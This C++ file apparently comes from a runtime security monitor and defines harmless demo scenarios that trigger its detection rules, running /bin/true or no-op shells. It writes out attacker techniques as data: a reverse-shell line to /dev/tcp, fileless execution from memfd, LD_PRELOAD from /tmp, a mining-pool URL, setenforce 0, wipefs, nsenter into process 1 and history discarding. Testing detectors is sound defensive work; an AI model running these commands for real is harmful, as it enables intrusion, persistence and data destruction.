// SPDX-License-Identifier: Apache-2.0
// Copyright the Saker authors
//
// Starting programs from where none belong, and command lines that give themselves away. What runs
// is /bin/true or a shell that does nothing.
#include <fcntl.h>
#include <sys/mman.h>
#include <sys/sendfile.h>
#include <sys/stat.h>
#include <unistd.h>

#include "app/demo/actions.h"
#include "app/demo/scenario.h"

namespace saker::demo {
namespace {

Status run_copy_at(const std::string& path) {
  SAKER_RETURN_IF_ERROR(copy_program("/bin/true", path));
  return run_program(path, {path});
}

Status run_from_tmp() {
  return run_copy_at("/tmp/downloaded");
}

Status run_from_var_tmp() {
  return run_copy_at("/var/tmp/downloaded");
}

Status run_from_shared_memory() {
  return run_copy_at("/dev/shm/downloaded");
}

Status run_from_own_folder() {
  return run_copy_at("/mnt/program");
}

Status run_script_from_tmp() {
  constexpr std::string_view kText = "#!/bin/sh\nexit 0\n";
  {
    // Closed before it runs: a file that is open for writing cannot be started.
    const OwnedFd script(open("/tmp/script.sh", O_WRONLY | O_CREAT | O_CLOEXEC, 0755));
    if (write(script.get(), kText.data(), kText.size()) != static_cast<ssize_t>(kText.size())) {
      return failed("cannot write the script");
    }
  }
  return run_program("/tmp/script.sh", {"/tmp/script.sh"});
}

Status fail_to_run_from_tmp() {
  SAKER_RETURN_IF_ERROR(write_file("/tmp/not-executable", 0644));
  const Status started = run_program("/tmp/not-executable", {"not-executable"});
  return started ? fail(ErrorCode::kPermission, "started a file without permission") : Status{};
}

Status read_from_tmp() {
  SAKER_RETURN_IF_ERROR(write_file("/tmp/data"));
  return run_program("/bin/cat", {"cat", "/tmp/data"});
}

Status run_from_memory() {
  const OwnedFd memory(memfd_create("payload", MFD_CLOEXEC));
  const OwnedFd program(open("/bin/true", O_RDONLY | O_CLOEXEC));
  struct stat facts = {};
  if (memory.get() < 0 || fstat(program.get(), &facts) != 0) {
    return failed("cannot prepare the memory file");
  }
  const auto size = static_cast<std::size_t>(facts.st_size);
  if (sendfile(memory.get(), program.get(), nullptr, size) != facts.st_size) {
    return failed("cannot fill the memory file");
  }
  // The path leads through /proc, which is there in every sandbox.
  return run_program("/proc/self/fd/" + std::to_string(memory.get()), {"payload"});
}

Status preload_from_tmp() {
  return run_program("/bin/true", {"true"}, {"LD_PRELOAD=/tmp/not-there.so"});
}

Status preload_from_elsewhere() {
  return run_program("/bin/true", {"true"}, {"LD_PRELOAD=/mnt/not-there.so"});
}

Status reverse_shell_text() {
  return run_program("/bin/sh", {"sh", "-c", ": bash -i /dev/tcp/192.0.2.1/443"});
}

Status ordinary_shell() {
  return run_program("/bin/sh", {"sh", "-c", ":"});
}

Status shell_below_server() {
  // A shell named nginx, which starts a shell named sh; the second command keeps it from becoming
  // that shell.
  if (symlink("/bin/sh", "/mnt/nginx") != 0) {
    return failed("cannot link");
  }
  return run_program("/mnt/nginx", {"nginx", "-c", "/bin/sh -c :; :"});
}

Status server_below_server() {
  if (symlink("/bin/sh", "/mnt/nginx") != 0) {
    return failed("cannot link");
  }
  return run_program("/mnt/nginx", {"nginx", "-c", "/mnt/nginx -c :; :"});
}

Status mine() {
  return run_true_as("worker", {"-o", "stratum+tcp://pool.invalid:3333"});
}

Status add_account() {
  return run_true_as("useradd", {"intruder"});
}

Status switch_off_protection() {
  return run_true_as("setenforce", {"0"});
}

Status ask_about_protection() {
  return run_true_as("auditctl", {"-s"});
}

Status destroy_data() {
  return run_true_as("wipefs", {"-a", "/mnt/no-device"});
}

Status enter_host() {
  return run_true_as("nsenter", {"--target", "1", "--mount"});
}

Status enter_other() {
  return run_true_as("nsenter", {"--target", "12345", "--mount"});
}

Status discard_history() {
  return run_program("/bin/sh", {"sh", "-c", ":"}, {"HISTFILE=/dev/null"});
}

}  // namespace

std::vector<Scenario> execution_scenarios() {
  return {
      {.name = "run-from-tmp",
       .what = "a file dropped in /tmp is run",
       .expected = {"Dropped program run"},
       .private_folders = {"/tmp"},
       .is_shown_by_default = true,
       .run = run_from_tmp},
      {.name = "run-from-var-tmp",
       .what = "a file dropped in /var/tmp is run",
       .expected = {"Dropped program run"},
       .private_folders = {"/var/tmp"},
       .run = run_from_var_tmp},
      {.name = "run-script-from-tmp",
       .what = "a script in /tmp is run",
       .expected = {"Program run from a temporary folder"},
       .private_folders = {"/tmp"},
       .run = run_script_from_tmp},
      {.name = "run-from-shared-memory",
       .what = "a program in /dev/shm is run",
       .expected = {"Program run from shared memory"},
       .private_folders = {"/dev/shm"},
       .is_shown_by_default = true,
       .run = run_from_shared_memory},
      {.name = "run-from-memory",
       .what = "a program is run from a file in memory",
       .expected = {"Program run from memory"},
       .is_shown_by_default = true,
       .run = run_from_memory},
      {.name = "run-from-own-folder",
       .what = "a new program is run from a folder of one's own",
       .run = run_from_own_folder},
      {.name = "run-from-tmp-refused",
       .what = "a file in /tmp without execute permission is not run",
       .private_folders = {"/tmp"},
       .run = fail_to_run_from_tmp},
      {.name = "read-from-tmp",
       .what = "a file in /tmp is written and read",
       .private_folders = {"/tmp"},
       .run = read_from_tmp},
      {.name = "preload-from-tmp",
       .what = "a program is started with a library from /tmp (which is not there)",
       .expected = {"Library preloaded from a writable folder"},
       .run = preload_from_tmp},
      {.name = "preload-from-elsewhere",
       .what = "a library is preloaded from a folder of one's own",
       .run = preload_from_elsewhere},
      {.name = "reverse-shell-text",
       .what = "a shell is started with the text of a reverse shell (as a comment)",
       .expected = {"Reverse shell command line"},
       .is_shown_by_default = true,
       .run = reverse_shell_text},
      {.name = "ordinary-shell", .what = "a shell is started", .run = ordinary_shell},
      {.name = "shell-below-server",
       .what = "a server (a shell named nginx) starts a shell",
       .expected = {"Shell or download tool started by a server"},
       .run = shell_below_server},
      {.name = "server-below-server",
       .what = "a server starts a worker of its own",
       .run = server_below_server},
      {.name = "miner",
       .what = "a command line names a mining pool (the program does nothing)",
       .expected = {"Cryptocurrency miner started"},
       .run = mine},
      {.name = "add-account",
       .what = "a tool that adds accounts is called (a program of that name that does nothing)",
       .expected = {"Account tool used"},
       .run = add_account},
      {.name = "switch-off-protection",
       .what = "SELinux is switched off (by a program of that name that does nothing)",
       .expected = {"Protection switched off"},
       .run = switch_off_protection},
      {.name = "ask-about-protection",
       .what = "the audit system is asked for its state",
       .run = ask_about_protection},
      {.name = "destroy-data",
       .what = "a tool that destroys data is called (a program of that name that does nothing)",
       .expected = {"Data destroyed in bulk"},
       .run = destroy_data},
      {.name = "enter-host",
       .what = "the namespaces of process 1 are entered (by a program that does nothing)",
       .expected = {"Namespace of the host entered"},
       .run = enter_host},
      {.name = "enter-other",
       .what = "the namespaces of another process are entered",
       .run = enter_other},
      {.name = "discard-history",
       .what = "a shell is started whose history is thrown away",
       .expected = {"Shell history tampered with"},
       .run = discard_history},
  };
}

}  // namespace saker::demo
